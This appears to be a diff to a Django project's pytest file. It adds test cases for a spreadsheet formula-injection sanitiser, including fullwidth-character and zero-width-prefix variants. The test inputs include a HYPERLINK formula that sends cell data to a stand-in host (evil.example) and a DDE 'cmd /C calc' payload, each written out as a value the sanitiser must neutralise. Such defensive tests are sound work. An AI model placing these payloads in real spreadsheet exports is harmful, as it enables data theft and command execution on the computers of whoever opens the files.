@@ -28,6 +28,11 @@ def test_clip_factory_makes_clips_in_one_dataset():
         ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
         ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
         ("\r=1", "'\r=1"), ("plain note", "plain note"), ("/m/09x0r", "/m/09x0r"), ("", ""),
+        # Issue 16: fullwidth forms, and any of them after zero-width characters.
+        ("\uff1dcmd|' /C calc'!A0", "'\uff1dcmd|' /C calc'!A0"), ("\uff0b1", "'\uff0b1"),
+        ("\uff0d1", "'\uff0d1"), ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
+        ("\u200b=1+1", "'\u200b=1+1"), ("\ufeff\u200d\uff1d1", "'\ufeff\u200d\uff1d1"),
+        ("\u2060@x", "'\u2060@x"), ("\u200bplain", "\u200bplain"), ("a\uff1db", "a\uff1db"),
     ],
 )
 def test_spreadsheet_safe(text, safe):
@@ -35,7 +40,10 @@ def test_spreadsheet_safe(text, safe):
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize("text", ["=1+1", "+x", "-y", "@z", "\tq", "\rr", "ok", "", "a=b"])
+@pytest.mark.parametrize("text", ["=1+1", "+x", "-y", "@z", "\tq", "\rr", "ok", "", "a=b",
+                                  "\uff1d1", "\uff0b1", "\uff0d1", "\uff20z", "\u200b=1",
+                                  "\ufeff\u200c\uff1d1", "\u200bok", "a\uff0db", "'quoted",
+                                  "\\=x", "]=x", "^=x"])
 def test_spreadsheet_safe_sql_matches_python(text):
     from django.db import connection
 
